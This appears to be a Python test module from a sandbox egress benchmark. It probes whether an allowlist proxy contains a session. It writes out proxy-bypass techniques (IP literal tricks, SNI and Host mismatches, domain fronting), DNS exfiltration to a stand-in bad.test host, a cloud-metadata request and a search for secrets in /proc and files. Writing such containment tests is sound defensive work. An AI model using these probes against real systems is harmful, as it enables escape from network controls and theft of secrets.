"""Egress: a sandbox with an allowlist reaches its allowed names over HTTPS or HTTP through its
own proxy, and nothing else. Every probe runs from inside, against the test internet the runner
starts (``benchmarks.egress_internet``): api.good.test is allowed, api.bad.test is not.

Each case also reaches an allowed name (the control): a denial only counts when the path out
works, so that a broken proxy cannot pass for a contained attack.
"""

from __future__ import annotations

import secrets
import time

from ...egress_internet import Internet
from ..harness import Context
from ..model import NETWORK, Case, Verdict, brief, lines
from .isolation import PRELUDE

INTERNET = "internet"
"""Where the runner puts the running ``Internet`` in ``Context.scratch``."""

PROBES = """
PROXY_HOST, PROXY_PORT = os.environ["HTTPS_PROXY"].removeprefix("http://").rsplit(":", 1)

def probe(name, fn):
    try:
        what = fn()
    except Exception as e:
        why = f"{type(e).__name__}: {e}".replace("\\n", " ")[:110]
        print(f"{name}=denied:{why}")
    else:
        print(f"{name}=ALLOWED:{str(what)[:110]!r}")

def reached(url, headers=None):
    status, body = get(url, headers)
    if status == 200:
        return body
    raise PermissionError(f"{status} {str(body)[:90]}")

def control(url):
    try:
        reached(url)
        print("control=ok")
    except Exception as e:
        print(f"control=BROKEN {e}".replace("\\n", " "))

def connect(target):
    s = socket.create_connection((PROXY_HOST, int(PROXY_PORT)), timeout=10)
    s.sendall(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n".encode())
    head = b""
    while b"\\r\\n\\r\\n" not in head:
        chunk = s.recv(1024)
        if not chunk:
            break
        head += chunk
    status = head.split(b"\\r\\n")[0].decode(errors="replace")
    if not status.startswith("HTTP/1.1 200"):
        s.close()
        raise PermissionError(status or "closed")
    return s

def tunnel_open(target):
    connect(target).close()
    return "tunnel open to " + target

def tls(target, sni, verify=True):
    import ssl
    context = ssl.create_default_context(cafile=ca)
    if not verify:
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(connect(target), server_hostname=sni)

def http_over(s, host):
    s.sendall(f"GET /probe HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode())
    answer = b""
    while chunk := s.recv(4096):
        answer += chunk
    if not answer:
        raise ConnectionError("closed")
    return answer.decode(errors="replace").split("\\r\\n\\r\\n", 1)[-1]

def direct(host, port):
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
    s.settimeout(3)
    s.connect((host, port))
    return "connected"
"""


def contained(found: dict[str, str]) -> tuple[bool, str]:
    """The control reached its allowed name, and every probe was denied."""
    control = found.pop("control", "missing")
    allowed = {k: v for k, v in found.items() if v.startswith("ALLOWED")}
    if allowed:
        return False, f"ALLOWED {allowed}"
    if control != "ok":
        return False, f"the control did not reach its allowed name: {control}"
    if not found:
        return False, "no probe ran"
    return True, "; ".join(f"{k}: {v.removeprefix('denied:')}" for k, v in found.items())


def allowlist(*domains: str, **extra: object) -> dict[str, object]:
    return {"type": "allowlist", "allowed_domains": list(domains), **extra}


def egress(
    name: str,
    attack: str,
    expected: str,
    body: str,
    *,
    policy: dict[str, object] | None = None,
    neighbour: dict[str, object] | None = None,
    control: str = "https://api.good.test/control",
) -> Case:
    """``body`` runs in a fresh session with ``policy`` (api.good.test by default); a
    ``neighbour`` policy starts another session first, which must stay its own."""

    async def run(ctx: Context) -> Verdict:
        internet: Internet = ctx.scratch[INTERNET]
        if neighbour is not None:
            await ctx.session(network_policy=neighbour)
        session = await ctx.session(network_policy=policy or allowlist("api.good.test"))
        code = (
            PRELUDE
            + internet.prelude()
            + PROBES
            + f"control({control!r})\n"
            + ctx.fill(body).replace("@SERVER_IP@", internet.server_ip)
        )
        result = await session.execute(code, timeout=120)
        end = time.perf_counter()
        ok, evidence = contained(lines(result))
        if result.error is not None:
            ok, evidence = False, brief(result)
        return Verdict(ok, evidence, session, end)

    return Case(name, NETWORK, attack, expected, run, limit=240.0, internet=True)


SECRET = f"egress-bench-secret-{secrets.token_hex(8)}"

CASES = [
    egress(
        "egress-denied-domain",
        "HTTPS and HTTP to a name the session did not allow, and to one outside the operator's cap",
        "403 egress_refused from the proxy, naming the policy; nothing reaches the server",
        """
probe('https-denied', lambda: reached('https://api.bad.test/'))
probe('http-denied', lambda: reached('http://api.bad.test/'))
probe('outside-cap', lambda: reached('https://example.com/'))
probe('connect-denied', lambda: tunnel_open('api.bad.test:443'))
""",
    ),
    egress(
        "egress-ipv4-literal",
        "HTTPS, HTTP and CONNECT to the server's IPv4 address, loopback and cloud metadata",
        "403: IP literals are never allowed",
        """
probe('https-ip', lambda: reached('https://@SERVER_IP@/'))
probe('http-ip', lambda: reached('http://@SERVER_IP@/'))
probe('connect-ip', lambda: tunnel_open('@SERVER_IP@:443'))
probe('loopback', lambda: reached('http://127.0.0.1/'))
probe('metadata', lambda: reached('http://169.254.169.254/latest/meta-data/'))
""",
    ),
    egress(
        "egress-ipv6-literal",
        "CONNECT and HTTP to IPv6 literals: loopback, v4-mapped server address, ULA",
        "refused (400 or 403): IP literals are never allowed",
        """
probe('connect-v6-loopback', lambda: tunnel_open('[::1]:443'))
probe('connect-v4-mapped', lambda: tunnel_open('[::ffff:@SERVER_IP@]:443'))
probe('http-v6', lambda: reached('http://[::ffff:@SERVER_IP@]/'))
probe('connect-ula', lambda: tunnel_open('[fd00::1]:443'))
""",
    ),
    egress(
        "egress-integer-ip",
        "the server's address as a decimal, hex and octal integer (CONNECT and HTTP)",
        "403: a name that is a number is an IP literal",
        """
import ipaddress
n = int(ipaddress.IPv4Address('@SERVER_IP@'))
probe('connect-decimal', lambda: tunnel_open(f'{n}:443'))
probe('http-decimal', lambda: reached(f'http://{n}/'))
probe('connect-hex', lambda: tunnel_open(f'{hex(n)}:443'))
probe('https-loopback-decimal', lambda: reached('https://2130706433/'))
probe('connect-octal', lambda: tunnel_open(f'0{oct(n)[2:]}:443'))
""",
    ),
    egress(
        "egress-other-port",
        "CONNECT to an allowed name on ports other than 443 (22, 80, 8443), HTTP to port 8443",
        "403: only 443 for tunnels and 80 for plain HTTP",
        """
for port in (22, 80, 8443):
    probe(f'connect-{port}', lambda: tunnel_open(f'api.good.test:{port}'))
probe('https-8443', lambda: reached('https://api.good.test:8443/'))
probe('http-8443', lambda: reached('http://api.good.test:8443/'))
""",
    ),
    egress(
        "egress-sni-mismatch",
        "CONNECT to the allowed name, then TLS whose SNI is a denied name, or no SNI at all",
        "the proxy closes the tunnel: the SNI must be the CONNECT's name",
        """
probe('sni-denied', lambda: tls('api.good.test:443', 'api.bad.test', verify=False).version())
probe('no-sni', lambda: tls('api.good.test:443', None, verify=False).version())
probe('sni-ip', lambda: tls('api.good.test:443', '@SERVER_IP@', verify=False).version())
""",
    ),
    egress(
        "egress-host-mismatch",
        "plain HTTP to the allowed name with a denied Host header, and an absolute URI that "
        "disagrees with its Host",
        "403: the Host header must be the allowed name",
        """
probe('host-header', lambda: reached('http://api.good.test/', {'Host': 'api.bad.test'}))
def absolute():
    s = socket.create_connection((PROXY_HOST, int(PROXY_PORT)), timeout=10)
    s.sendall(b'GET http://api.good.test/ HTTP/1.1\\r\\nHost: api.bad.test\\r\\n'
              b'Connection: close\\r\\n\\r\\n')
    answer = s.recv(4096).decode(errors='replace')
    if '"host": "api.bad.test"' in answer:
        return answer
    raise PermissionError(answer.split('\\r\\n')[0] or 'closed')
probe('absolute-uri', absolute)
""",
    ),
    egress(
        "egress-plain-in-tunnel",
        "CONNECT to the allowed name on 443, then plain HTTP or SSH bytes instead of TLS",
        "the proxy closes the tunnel: only TLS passes",
        """
probe('plain-http', lambda: http_over(connect('api.good.test:443'), 'api.good.test'))
def ssh():
    s = connect('api.good.test:443')
    s.sendall(b'SSH-2.0-OpenSSH_9.6\\r\\n')
    s.settimeout(10)
    data = s.recv(1024)
    if not data:
        raise ConnectionError('closed')
    return data
probe('ssh-banner', ssh)
""",
    ),
    egress(
        "egress-raw-tcp",
        "TCP and UDP straight to the server, a public address and the gateway, bypassing the "
        "proxy; other ports on the proxy",
        "unreachable: the sandbox's only network has no route out; the proxy listens on one port",
        """
probe('server-443', lambda: direct('@SERVER_IP@', 443))
probe('server-80', lambda: direct('@SERVER_IP@', 80))
probe('public', lambda: direct('1.1.1.1', 443))
routes = [line.split() for line in open('/proc/net/route').read().splitlines()[1:]]
gateways = {socket.inet_ntoa(bytes.fromhex(r[2])[::-1]) for r in routes if r[2] != '00000000'}
def no_gateway():
    raise OSError('no route with a gateway')
if not gateways:
    probe('gateway', no_gateway)
for gw in sorted(gateways):
    probe(f'gateway-{gw}', lambda: direct(gw, 80))
for port in (22, 80, 443):
    probe(f'proxy-{port}', lambda: direct(PROXY_HOST, port))
def udp_echo():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(b'x', ('@SERVER_IP@', 443))
    return s.recv(64)
probe('udp-server', udp_echo)
""",
    ),
    egress(
        "egress-dns-exfiltration",
        "resolve names carrying data, query Docker's DNS, the proxy and public resolvers over "
        "UDP and TCP 53, and CONNECT to a data-bearing name",
        "no resolver takes the name: Docker's, inside, has only the proxy upstream, which serves "
        "no DNS (SERVFAIL); the proxy refuses a denied name before resolving it",
        """
token = 'exfil-' + os.urandom(8).hex()
probe('getaddrinfo', lambda: socket.getaddrinfo(token + '.api.bad.test', 443))
probe('getaddrinfo-allowed', lambda: socket.getaddrinfo('api.good.test', 443))
def udp_dns(server):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    label = token.encode()
    query = (bytes.fromhex('abcd01000001000000000000') + bytes([len(label)]) + label
             + b'\\x03bad\\x04test\\x00\\x00\\x01\\x00\\x01')
    s.sendto(query, (server, 53))
    answer = s.recv(512)
    rcode = answer[3] & 0x0F
    if rcode in (2, 5):  # SERVFAIL, REFUSED: no resolver behind it took the name
        raise PermissionError(f'rcode {rcode} (no upstream answered)')
    return f'rcode {rcode}: a resolver answered'
for server in ('127.0.0.11', PROXY_HOST, '@SERVER_IP@', '8.8.8.8'):
    probe(f'udp53-{server}', lambda: udp_dns(server))
probe('tcp53-proxy', lambda: direct(PROXY_HOST, 53))
probe('connect-name', lambda: tunnel_open(token + '.exfil.bad.test:443'))
""",
    ),
    egress(
        "egress-redirect",
        "an allowed name answers 302 to a denied name; urllib follows it",
        "403 on the second hop: each request is judged on its own",
        """
probe('follow-redirect', lambda: reached('https://api.good.test/redirect'))
""",
    ),
    egress(
        "egress-other-session-domain",
        "while another session allows other.good.test, reach other.good.test from this one",
        "403: each sandbox has its own proxy with its own policy",
        """
probe('https-neighbour', lambda: reached('https://other.good.test/'))
probe('http-neighbour', lambda: reached('http://other.good.test/'))
probe('connect-neighbour', lambda: tunnel_open('other.good.test:443'))
""",
        neighbour=allowlist("other.good.test"),
    ),
    egress(
        "egress-secret-readback",
        "read a domain secret's value: environment, every /proc environ and cmdline, files "
        "under /conn, /mnt/data, /tmp, home and /etc; send its placeholder to another allowed "
        "name and read what arrives",
        "only a placeholder is inside; the value is put in at the proxy for its own domain only",
        f"""
import glob
secret = ({SECRET[:12]!r} + {SECRET[12:]!r}).encode()  # never whole in the cell's source
placeholder = os.environ['API_TOKEN']
def env():
    found = [k for k, v in os.environ.items() if secret in v.encode()]
    if found:
        return found
    raise PermissionError('placeholder only: ' + placeholder[:24])
probe('environ', env)
def proc():
    seen = []
    for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
        try:
            if secret in open(path, 'rb').read():
                seen.append(path)
        except OSError:
            pass
    if seen:
        return seen
    raise PermissionError('in no /proc environ or cmdline')
probe('proc', proc)
def files():
    seen = []
    for root in ('/conn', '/mnt/data', '/tmp', '/home', '/etc'):
        for folder, _, names in os.walk(root):
            for name in names:
                try:
                    if secret in open(os.path.join(folder, name), 'rb').read():
                        seen.append(os.path.join(folder, name))
                except OSError:
                    pass
    if seen:
        return seen
    raise PermissionError('in no file')
probe('files', files)
def elsewhere():
    echoed = reached('https://other.good.test/', {{'Authorization': 'Bearer ' + placeholder}})
    if secret.decode() in str(echoed):
        return echoed
    raise PermissionError('other.good.test got ' + str(echoed.get('auth'))[:40])
probe('placeholder-elsewhere', elsewhere)
""",
        policy=allowlist(
            "api.good.test",
            "other.good.test",
            domain_secrets=[{"domain": "api.good.test", "name": "API_TOKEN", "value": SECRET}],
        ),
        control="https://other.good.test/control",
    ),
    egress(
        "egress-domain-fronting",
        "CONNECT and TLS with the allowed name as SNI, then HTTP/1.1 asking for a denied name "
        "on the same certificate (domain fronting; HTTP/2 coalescing is the same move)",
        "refused: the Host inside the tunnel must be the allowed name",
        """
probe('fronted-host', lambda: http_over(tls('api.good.test:443', 'api.good.test'),
                                        'api.bad.test'))
""",
    ),
]
